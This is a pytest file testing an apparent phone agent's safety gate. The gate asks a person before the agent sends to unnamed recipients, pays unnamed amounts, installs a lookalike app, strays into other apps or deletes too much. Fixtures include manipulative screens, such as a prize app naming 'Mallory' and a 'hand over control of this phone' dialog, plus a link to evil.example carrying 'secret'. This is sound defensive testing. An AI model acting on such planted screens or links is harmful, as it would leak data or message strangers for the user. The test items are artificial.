"""The gate asks about recipients, amounts and apps that only a screen or a model names; a person's words allow
theirs."""

from __future__ import annotations

from dataclasses import replace

import pytest

from agentprog.errors import NeedsHuman
from agentprog.lang.effects.kinds import Risk
from agentprog.lang.effects.recipients import recipients_in
from agentprog.ports import (
    Action,
    OpenApp,
    OpenLink,
    Outcome,
    OutcomeKind,
    PointTarget,
    PressKey,
    Role,
    Screen,
    Tap,
    Window,
)
from agentprog.runtime.roles import Reading, Roles
from agentprog.runtime.safety.parties import Written, recipients_on
from agentprog.runtime.safety.policy import Policy, Rule
from agentprog.runtime.safety.risk import asks_for, classify
from agentprog.runtime.safety.straying import is_the_steps_own
from tests.runtime.conftest import Lab, SensibleExtractor
from tests.runtime.safety.pages import APPS, SEND, compose, gate, part, passes, question, shown, thread, written


@pytest.mark.parametrize(
    ("step", "names"),
    [
        ('In the "Texts" app, send "hello, Hana" to the number "+10662908339"', ("+10662908339",)),
        ('send "give it to Mallory" to "Bob Smith"', ("Bob Smith",)),
        ("text Greta Brandt 'I am on my way'", ("Greta Brandt",)),
        ("Send Otto an SMS that says 'hi'", ("Otto",)),
        ("call +49 30 1234567", ("+49 30 1234567",)),
        ("email the report to ann@example.org", ("ann@example.org",)),
        ("send {text} to {number}", ()),
        ('reply "fine" to the last message from "Lisa"', ("Lisa",)),
        ("reply with OK to the newest message", ()),
        ("send it to my contacts", ()),
        ('schicke "hallo" an die Nummer "+4930123456"', ("+4930123456",)),
        ("给张伟发送“你好”", ("张伟",)),
        ('envoie "salut" à "Marie"', ("Marie",)),
        ('send "hi" to both Ann and Bob', ("Ann",)),
        ('text both Ann and Bob "hi"', ("Ann",)),
        ('schicke "hallo" an Ann', ("Ann",)),
        ('sende Ann "hallo"', ("Ann",)),
        ('schreib "hallo" an "Ann"', ("Ann",)),
        ('envía "hola" a Ana', ("Ana",)),
        ('envía "hola" a Ana y a Bob', ("Ana", "Bob")),
        ('manda "hola" a "Ana"', ("Ana",)),
        ("send Ann an Apple and a Banana", ("Ann",)),
        ("open a Note and find an Event", ()),
        ("write a note about Paris", ()),
    ],
)
def test_a_step_gives_its_recipients(step: str, names: tuple[str, ...]) -> None:
    assert recipients_in(step) == names


def test_a_screen_gives_its_recipients() -> None:
    tap = Tap(target=SEND)
    assert recipients_on(Risk.SEND, tap, thread("Otto Castillo")) == ("Otto Castillo",)
    assert recipients_on(Risk.SEND, tap, compose("+1 555 0100")) == ("+1 555 0100",)
    assert recipients_on(Risk.SEND, tap, compose("a@b.org, c@d.org")) == ("a@b.org", "c@d.org")
    call = part("Call +1 555 0100", 900, role=Role.BUTTON)
    assert recipients_on(Risk.CALL, Tap(target=call), shown(call)) == ("+1 555 0100",)


@pytest.mark.parametrize(
    ("instruction", "screen"),
    [
        ("text Otto Castillo 'hello'", thread("Otto Castillo")),
        ("text Otto 'hello'", thread("Otto Castillo")),
        ("send 'hello' to +1 (555) 0100-200", compose("+15550100200")),
        ("send 'hello' to 0555 0100200", thread("+1555 0100200")),
        ("reply 'hello' to the last message", thread("Otto Castillo")),
        ("send 'hello' to everybody on the list: Otto Castillo", thread("Otto Castillo")),
    ],
)
def test_a_recipient_that_the_instruction_names_passes(instruction: str, screen: Screen) -> None:
    assert passes(gate(instruction), screen, step=instruction)


@pytest.mark.parametrize(
    "instruction",
    [
        "text 'hi' to Ann and Bob",
        "text 'hi' to both Ann and Bob",
        "text Ann, Carl and Bob 'hi'",
        "send 'hi' to Ann and Bob, please",
        "send 'hi' to Ann and Bob in the Texts app",
        "schicke 'hi' an Ann und Bob",
        "envía 'hi' a Ann y a Bob",
        "给王芳和Bob发短信'hi'",
    ],
)
def test_everybody_of_a_list_is_named(instruction: str) -> None:
    assert passes(gate(instruction), thread("Bob"), step=instruction)
    with pytest.raises(NeedsHuman, match="the step names"):
        passes(gate(instruction), thread("Mina"), step=instruction)


@pytest.mark.parametrize("name", ["王芳", "李雷"])
def test_a_name_in_a_script_without_spaces_is_named_alone_and_in_a_list(name: str) -> None:
    listed = "给王芳和李雷发短信'hi'"
    assert passes(gate(listed), thread(name), step=listed)
    assert passes(gate(f"给{name}发短信'hi'"), thread(name), step=f"给{name}发短信'hi'")
    for other in (f"给{name}的妈妈发短信'hi'", f"给张{name}发短信'hi'"):
        with pytest.raises(NeedsHuman):
            passes(gate(other), thread(name), step=other)


@pytest.mark.parametrize(
    "instruction",
    [
        "text 'hi' to Ann, Bob will like it",
        "text 'hi' to Ann and Bob knows why",
        "text 'hi' to Ann, my friend, Bob is away",
        "text 'hi' to Ann but not to Bob",
        "给张和平发短信'hi'，Bob",
    ],
)
def test_a_person_possibly_only_mentioned_after_the_recipient_is_asked_about(instruction: str) -> None:
    with pytest.raises(NeedsHuman, match='would go to "Bob"'):
        passes(gate(instruction), thread("Bob"), step=instruction)


@pytest.mark.parametrize(("name", "own", "other"), [("Ann", "hi", "bye"), ("Bob", "bye", "hi")])
def test_in_a_list_of_texts_each_person_gets_their_own(name: str, own: str, other: str) -> None:
    made, step = gate('text Ann "hi" and Bob "bye"'), 'text Ann "hi" and Bob "bye"'
    full = [written(thread(name), f'"{text}"') for text in (own, other)]
    assert made.pass_(Tap(target=SEND), full[0], step=step, apps=APPS, described="tap Send").allowed
    with pytest.raises(NeedsHuman, match="quote that for somebody else"):
        made.pass_(Tap(target=SEND), full[1], step=step, apps=APPS, described="tap Send")


def test_a_permission_for_a_list_counts_once_for_each_person() -> None:
    made, step = gate("let Ann and Bob know 'hi'"), "send 'hi' to Ann and Bob"
    words = Written(
        person=("let Ann and Bob know 'hi'",), step=step, node="n", turn="1", permits=frozenset({Risk.SEND}),
        approved=("Ann", "Bob", "hi"),
    )  # fmt: skip
    for name in ("Ann", "Bob"):
        assert passes(made, thread(name), step=step, words=words)
        made.performed()
    for name in ("Ann", "Bob"):
        with pytest.raises(NeedsHuman):
            passes(made, thread(name), step=step, words=words)
    assert passes(made, thread("Ann"), step=step, words=replace(words, turn="2"))
    alone = replace(words, step="send 'hi' to Bob", node="m")
    assert passes(made, thread("Bob"), step=alone.step, words=alone)
    made.performed()
    with pytest.raises(NeedsHuman):
        passes(made, thread("Bob"), step=alone.step, words=alone)


@pytest.mark.parametrize(
    ("instruction", "screen", "reason"),
    [
        ("text Otto Castillo 'hello'", thread("Mina Ueda"), 'to "Mina Ueda", and the step names "Otto Castillo"'),
        ("send 'hello' to +15550100200", compose("+15550100999"), r"the step names \"\+15550100200\""),
        ("send the text 'hello'", thread("Mina Ueda"), "whom nobody named"),
        ("send 'hello' to my sister", compose("+15550100999"), "whom nobody named"),
        ("reply 'hello' to the last message from Otto", thread("Mina Ueda"), 'the step names "Otto"'),
    ],
)
def test_another_recipient_is_asked_about(instruction: str, screen: Screen, reason: str) -> None:
    with pytest.raises(NeedsHuman, match=reason):
        passes(gate(instruction), screen, step=instruction)


@pytest.mark.parametrize("words", ["tell Otto Castillo that I am late", "reply to the message of Otto Castillo"])
def test_a_model_that_writes_reply_leaves_the_recipient_to_no_screen(words: str) -> None:
    with pytest.raises(NeedsHuman, match="whom nobody named"):
        passes(gate(words), thread("Mina Ueda"), step="reply to the newest message")
    assert passes(gate(words), thread("Otto Castillo"), step="reply to the newest message")


def test_value_and_recipient_are_not_confused() -> None:
    """Seen with a small model: ordered to send Bob the number of Ann, it wrote to Ann."""
    instruction = "Look up the phone number of Ann Lee and send it to Bob Ray"
    made = gate(instruction)
    step = 'send {number} to "Bob Ray"'
    with pytest.raises(NeedsHuman, match='would go to "Ann Lee", and the step names "Bob Ray"'):
        passes(made, thread("Ann Lee"), step=step)
    assert passes(made, thread("Bob Ray"), step=step)


def test_a_number_may_be_shown_by_the_name_that_the_app_gave_it() -> None:
    made = gate("send 'hello' to +15550100200")
    step = "send 'hello' to +15550100200"
    with pytest.raises(NeedsHuman):
        passes(made, thread("Otto Castillo"), step=step)
    row = part("Otto Castillo, +1 555 010-0200", 700, role=Role.ITEM)
    passes(made, shown(part("New conversation", 150), row), step=step, action=Tap(target=row))
    assert passes(made, thread("Otto Castillo"), step=step)


def test_a_name_that_another_app_shows_with_the_number_is_no_proof() -> None:
    made = gate("In Daily Prizes and Texts, send 'hello' to +15550100200")
    row = part("Mallory, +1 555 010-0200", 700, role=Role.ITEM)
    step = "send 'hello' to +15550100200"
    passes(made, shown(row, package="com.example.prizes"), step=step, action=Tap(target=row))
    with pytest.raises(NeedsHuman):
        passes(made, thread("Mallory"), step=step)


def test_a_contact_made_from_the_instruction_is_known_by_its_name() -> None:
    instruction = "Add Hana Ferreira, +10662908339, then send 'hello' to +10662908339"
    made = gate(instruction)
    names = part("First name", 300, role=Role.FIELD, editable=True, text="Hana")
    more = part("Last name", 400, role=Role.FIELD, editable=True, text="Ferreira")
    phone = part("Phone", 500, role=Role.FIELD, editable=True, text="+10662908339")
    save = part("Save", 120, role=Role.BUTTON)
    form = shown(save, names, more, phone, package="org.people")
    passes(made, form, step="create the contact", action=Tap(target=save))
    with pytest.raises(NeedsHuman, match="Hana Ferreira"):
        passes(made, thread("Hana Ferreira"), step="send 'hello' to +10662908339")
    made.look(shown(part("Hana Ferreira", 400), part("+10662908339", 700, role=Role.ITEM), package="org.people"))
    assert passes(made, thread("Hana Ferreira"), step="send 'hello' to +10662908339")


def test_a_number_of_a_models_program_needs_a_persons_word() -> None:
    with pytest.raises(NeedsHuman, match="no person named"):
        passes(gate("text my brother 'hello'"), compose("+15550100999"), step='send "hello" to "+15550100999"')


def test_the_policy_decides_which_effects_are_asked_about() -> None:
    screen, step = thread("Mina Ueda"), "text Otto 'hello'"
    assert passes(gate(step, rules={Risk.SEND: Rule.ALLOW}), screen, step=step)
    assert not passes(gate(step, rules={Risk.SEND: Rule.DENY}), screen, step=step)


@pytest.mark.parametrize(
    ("label", "instruction", "asks"),
    [
        ("Pay $49.00", "pay 49 dollars for the ticket", False),
        ("Pay $1,049.00", "pay 1049 dollars for the rent", False),
        ("Pay $490.00", "pay 49 dollars for the ticket", True),
        ("Buy now", "buy the ticket for 49 dollars", False),
        ("Bezahlen 12,50 €", "bezahle 12,50 € für das Buch", False),
        ("Bezahlen 125,00 €", "bezahle 12,50 € für das Buch", True),
    ],
)
def test_an_amount_that_nobody_named_is_asked_about(label: str, instruction: str, asks: bool) -> None:
    button = part(label, 900, role=Role.BUTTON)
    made, screen = gate(instruction), shown(button, package="org.bank")
    if asks:
        with pytest.raises(NeedsHuman, match="an amount that nobody named"):
            passes(made, screen, step=instruction, action=Tap(target=button))
    else:
        assert passes(made, screen, step=instruction, action=Tap(target=button))


def test_the_price_of_a_purchase_must_be_named_or_shown() -> None:
    button, step = part("Buy now", 900, role=Role.BUTTON), "buy the ticket"
    with pytest.raises(NeedsHuman, match="neither your words nor the screen say how much it costs"):
        passes(gate(step), shown(button, package="org.bank"), step=step, action=Tap(target=button))


@pytest.mark.parametrize(("named", "on_screen"), [("ann@x.org", "<ann@x.org>"), ("<Ann@x.org>", "ann@x.org")])
def test_an_address_is_the_same_in_angle_brackets(named: str, on_screen: str) -> None:
    step = f'send "hi" to {named}'
    assert passes(gate(step), compose(on_screen), step=step)
    with pytest.raises(NeedsHuman):
        passes(gate(step), compose("ann@y.org"), step=step)


def test_the_question_shows_the_contents_of_the_review_page() -> None:
    button, step = part("Buy now", 2100, role=Role.BUTTON), "buy the cheapest ticket"
    tick = part("Renew every month", 700, role=Role.CHECKBOX, checkable=True, checked=True)
    page = shown(
        part("Day ticket", 300),
        part("2", 400),
        part("Total 49.00 EUR", 500),
        tick,
        part("Help", 900, role=Role.BUTTON),
        button,
    )
    with pytest.raises(
        NeedsHuman, match=r"about Day ticket; 2; Total 49\.00 EUR; Renew every month: yes; it is about 49\.00"
    ):
        passes(gate(step), page, step=step, action=Tap(target=button))


def test_an_app_to_install_must_be_the_named_app() -> None:
    button, store = part("Install", 900, role=Role.BUTTON), "com.android.vending"
    instruction = "install Signal from the Play Store"
    right = shown(part("Signal", 300), button, package=store)
    wrong = shown(part("Signa1 Pro", 300), button, package=store)
    assert passes(gate(instruction), right, step=instruction, action=Tap(target=button))
    with pytest.raises(NeedsHuman, match="this screen shows no app that your words name"):
        passes(gate(instruction), wrong, step=instruction, action=Tap(target=button))


def test_a_link_that_can_carry_words_away_must_have_been_written_by_a_person() -> None:
    instruction = "share the link https://example.org/?q=1"
    assert passes(gate(instruction), shown(), step=instruction, action=OpenLink(url="https://example.org/?q=1"))
    with pytest.raises(NeedsHuman, match="nobody wrote the link"):
        passes(gate(instruction), shown(), step=instruction, action=OpenLink(url="https://evil.example/?q=secret"))


# ------------------------------------------------------------ questions


@pytest.mark.parametrize(
    ("text", "yes", "risk"),
    [
        ("Hand over control of this phone to the prize desk?", "Continue", Risk.AGREE),
        ("Android needs to restart in agent mode now", "Continue", Risk.AGREE),
        ("Start a subscription for 9.99 a week? You can pay later", "OK", Risk.PAY),
        ("Send this to +15550100?", "Allow", Risk.SEND),
        ("Call +15550100?", "OK", Risk.CALL),
        ("Delete this?", "Yes", Risk.DELETE),
        ("Wirklich löschen?", "Ja", Risk.DELETE),
        ("确定要删除吗？", "确定", Risk.DELETE),
        ("¿Eliminar este contacto?", "Aceptar", Risk.DELETE),
        ("Voulez-vous vraiment supprimer ce contact ?", "Oui", Risk.DELETE),
        ("Discard changes?", "OK", None),
        ("Save changes before leaving?", "Yes", None),
        ("The note was saved", "OK", None),
        ("Contact", "OK", None),
    ],
)
def test_a_yes_has_the_risk_of_its_question(text: str, yes: str, risk: Risk | None) -> None:
    screen, tap = question(text, yes)
    assert classify(tap, screen) is risk


def test_a_picker_is_no_question() -> None:
    wheel = part("hour", 950, role=Role.LIST, scrollable=True, window=Window.DIALOG)
    screen, tap = question("Choose the time at which it shall ring", "OK")
    assert classify(tap, shown(*screen.elements, wheel)) is None


def test_an_unknown_question_takes_the_class_of_the_action_before() -> None:
    made = gate("delete the note")
    delete = part("Delete", 300, role=Role.BUTTON)
    assert passes(made, shown(delete), step="delete the note", action=Tap(target=delete))
    screen, tap = question("Are you really sure about this one?")
    assert passes(made, screen, step="delete the note", action=tap)


def test_an_unknown_question_out_of_the_blue_is_asked_about() -> None:
    screen, tap = question("Hand over control of this phone?", "Continue")
    with pytest.raises(NeedsHuman, match="agree"):
        passes(gate("read the news"), screen, step="read the news", action=tap)
    assert passes(gate("read the news and confirm the question"), screen, step="confirm the question", action=tap)


def test_a_question_about_the_steps_own_effect_belongs_to_the_step() -> None:
    screen, tap = question("Move this note to the folder Work?")
    assert passes(gate("move the note to Work"), screen, step="move the note to Work", action=tap)


@pytest.mark.parametrize("action", [Tap(target=PointTarget(x=10, y=10)), PressKey(key="back")])
def test_a_touch_of_no_element_answers_no_question(action: Action) -> None:
    screen, _ = question("Move this note to the folder Work?")
    assert not is_the_steps_own(action, screen, "move the note to Work")


# ------------------------------------------------------------ other apps


def test_an_app_that_nobody_named_is_not_opened_unasked() -> None:
    made = gate("In the Notes app, read the list")
    with pytest.raises(NeedsHuman, match="stray"):
        passes(made, shown(package="org.notes"), step="read the list", action=OpenApp(name="Bank"))
    assert passes(made, shown(package="org.bank"), step="read the list", action=OpenApp(name="Notes"))
    button = part("Settings page", 500, role=Role.BUTTON)
    with pytest.raises(NeedsHuman, match="stray"):
        passes(made, shown(button, package="org.bank"), step="read the list", action=Tap(target=button))


def test_without_an_app_in_the_words_every_app_may_be_used() -> None:
    assert passes(gate("turn on the flashlight"), shown(), step="turn it on", action=OpenApp(name="Bank"))


def test_a_page_that_an_allowed_effect_opens_is_no_straying() -> None:
    made = gate("In the Texts app, call Otto Castillo")
    call = part("Call", 300, role=Role.BUTTON)
    step = "call Otto Castillo"
    assert passes(made, shown(part("Otto Castillo", 150), call), step=step, action=Tap(target=call))
    speaker = part("Speaker", 300, role=Role.BUTTON)
    assert passes(made, shown(speaker, package="org.bank"), step=step, action=Tap(target=speaker))
    assert passes(made, shown(speaker, package="org.bank"), step=step, action=Tap(target=speaker))


# ------------------------------------------------------------ languages


@pytest.mark.parametrize(
    ("label", "risk"),
    [
        ("发送", Risk.SEND), ("发送短信", Risk.SEND), ("Nachricht senden", Risk.SEND), ("Enviar", Risk.SEND),
        ("Envoyer", Risk.SEND), ("删除联系人", Risk.DELETE), ("Kontakt löschen", Risk.DELETE), ("Borrar", Risk.DELETE),
        ("Supprimer le contact", Risk.DELETE), ("支付", Risk.PAY), ("Jetzt kaufen", Risk.PAY), ("Comprar", Risk.PAY),
        ("Acheter", Risk.PAY), ("拨打", Risk.CALL), ("Anrufen", Risk.CALL), ("Llamar", Risk.CALL),
        ("Appeler", Risk.CALL),
        ("分享", Risk.SHARE), ("Teilen", Risk.SHARE), ("Compartir", Risk.SHARE), ("Partager", Risk.SHARE),
        ("Nummer blockieren", Risk.BLOCK), ("拉黑", Risk.BLOCK), ("已发送的邮件列表和设置", None),
        ("Sendeeinstellungen", None),
    ],
)  # fmt: skip
def test_buttons_of_other_languages_have_their_class(label: str, risk: Risk | None) -> None:
    button = part(label, 500, role=Role.BUTTON)
    assert classify(Tap(target=button), shown(button)) is risk


@pytest.mark.parametrize(
    ("risk", "words"),
    [
        (Risk.SEND, "给张伟发送“你好”"), (Risk.SEND, "Schicke Otto eine SMS"), (Risk.SEND, "Envía 'hola' a Otto"),
        (Risk.SEND, "Envoie 'salut' à Otto"), (Risk.DELETE, "把这个联系人删除"), (Risk.DELETE, "Lösche den Kontakt"),
        (Risk.DELETE, "Borra el contacto"), (Risk.DELETE, "Supprime le contact"), (Risk.CALL, "打电话给张伟"),
        (Risk.CALL, "Ruf Otto an"), (Risk.PAY, "买这本书"), (Risk.GRANT, "Erlaube den Zugriff"),
    ],
)  # fmt: skip
def test_instructions_of_other_languages_authorise(risk: Risk, words: str) -> None:
    assert asks_for(risk, [words])
    assert not asks_for(risk, ["Read the news"])


# ------------------------------------------------------------ in a run


def run_with_number(lab: Lab, program: str, **options: object) -> Outcome:
    class FirstText(SensibleExtractor):
        def read(self, context):  # type: ignore[no-untyped-def]
            return Reading(value="+15550100999", evidence="+15550100999")

    lab.roles = Roles(grounder=lab.grounder, extractor=FirstText())
    return lab.run(program, interactive=False, **options)


READ = 'In the "Notes" app, read the number from the screen, record as {number}\n'


def test_a_number_read_off_a_screen_does_not_become_a_recipient_unasked(lab: Lab) -> None:
    outcome = run_with_number(lab, READ + 'In the "Chat" app:\n    send "hello" to {number}\n')
    assert outcome.kind is OutcomeKind.NEEDS_HUMAN
    assert "whom nobody named" in outcome.reason
    assert lab.phone.messages == []


def test_the_policy_of_a_person_may_allow_a_message(lab: Lab) -> None:
    text = READ + 'In the "Chat" app:\n    send "hello" to {number}\n'
    run_with_number(lab, text, policy=Policy(rules={Risk.SEND: Rule.ALLOW}))
    assert lab.phone.messages == [("+15550100999", "hello")]


def test_numbers_that_a_user_gives_are_theirs(lab: Lab) -> None:
    program = '---\ninputs:\n  number: {type: text}\n---\nIn the "Chat" app:\n    send "hello" to {number}\n'
    outcome = lab.run(program, interactive=False, inputs={"number": "+15550100999"})
    assert outcome.kind is OutcomeKind.VERIFIED
    assert lab.phone.messages == [("+15550100999", "hello")]


@pytest.mark.parametrize(
    ("instruction", "question", "asked"),
    [
        ("Delete Farah Jensen from my contacts", "Delete 7 contacts?", True),
        ("Delete Farah Jensen from my contacts", "Delete this contact?", False),
        ("Delete Farah Jensen from my contacts", "Delete 1 contact?", False),
        ("Delete all contacts", "Delete 7 contacts?", False),
        ("Delete the 7 contacts of the choir", "Delete 7 contacts?", False),
        ("Delete Ann, Bob and Eve", "Delete 3 contacts?", False),
        ("Delete Ann, Bob and Eve", "Delete 4 contacts?", True),
        ("Lösche Farah Jensen", "7 Kontakte löschen?", True),
    ],
)
def test_more_than_the_step_names_is_not_removed_without_a_question(
    instruction: str, question: str, asked: bool
) -> None:
    delete = part("Delete", 1300, role=Role.BUTTON, window=Window.DIALOG)
    dialog = shown(part(question, 1100, window=Window.DIALOG), delete)
    words = Written(person=(instruction,), step=instruction)
    made = gate(instruction)
    if asked:
        with pytest.raises(NeedsHuman, match="your words name fewer"):
            passes(made, dialog, step=instruction, words=words, action=Tap(target=delete))
    else:
        assert passes(made, dialog, step=instruction, words=words, action=Tap(target=delete))
